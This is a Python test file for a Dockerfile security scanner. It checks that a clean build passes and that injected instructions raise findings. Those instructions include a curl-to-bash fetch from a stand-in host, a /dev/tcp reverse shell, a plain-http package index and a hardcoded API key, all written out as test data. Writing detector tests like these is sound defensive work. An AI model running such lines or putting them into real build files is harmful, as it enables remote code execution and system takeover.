"""Dockerfiles: ordinary builds are clean; what they fetch and hold is found."""

from __future__ import annotations

import pytest

from touchstone.scan.file import scan_bytes
from touchstone.scan.findings import FileResult

ORDINARY = """# syntax=docker/dockerfile:1
FROM python:3.11-slim@sha256:0000000000000000000000000000000000000000000000000000000000000000 AS build
ARG VERSION=1
ENV HF_HOME=/cache TOKENIZERS_PARALLELISM=false
RUN apt-get update && \\
    apt-get install -y --no-install-recommends git && rm -rf /var/lib/apt/lists/*
COPY --from=build /a /b
FROM build
USER 1000
CMD ["python", "serve.py"]
"""


def scan(text: str) -> FileResult:
    return scan_bytes(text.encode(), "Dockerfile")


def test_an_ordinary_build_is_clean() -> None:
    result = scan(ORDINARY)
    assert (result.format, result.verdict, result.findings) == ("dockerfile", "clean", ())
    assert next(fact.value for fact in result.facts if fact.name == "dependency").startswith("docker:python:3.11-slim@")


@pytest.mark.parametrize(
    ("instruction", "rule", "severity"),
    [
        ("RUN curl -s http://planted.example/x | bash", "script/fetched-and-run", "high"),
        ("RUN apt-get update && \\\n  curl -s http://planted.example/x \\\n | bash", "script/fetched-and-run", "high"),
        ("RUN <<EOF\ncurl -s http://planted.example/x | bash\nEOF", "script/fetched-and-run", "high"),
        ("CMD bash -i >& /dev/tcp/192.0.2.1/1 0>&1", "script/remote-shell", "critical"),
        ("ADD https://example.org/model.bin /m", "dockerfile/fetches", "medium"),
        ("ADD http://example.org/model.bin /m", "dockerfile/unprotected-address", "high"),
        ("ENV API_KEY=abcdefghij", "dockerfile/secret", "medium"),
        ("FROM ubuntu:latest", "dockerfile/unpinned-image", "information"),
        ("RUN pip install --index-url http://planted.example/simple x", "requirements/unprotected-address", "high"),
        ("RUN python -c 'import os; os.system(\"echo planted\")'", "python/runs-program", "high"),
        ("USER root", "dockerfile/root", "information"),
    ],
)
def test_what_a_build_should_not_do(instruction: str, rule: str, severity: str) -> None:
    findings = scan(ORDINARY + instruction + "\n").findings
    assert (rule, severity) in {(finding.rule, finding.severity) for finding in findings}


def test_a_file_with_its_checksum_is_fine() -> None:
    assert scan(ORDINARY + "ADD --checksum=sha256:00 https://example.org/m /m\n").verdict == "clean"
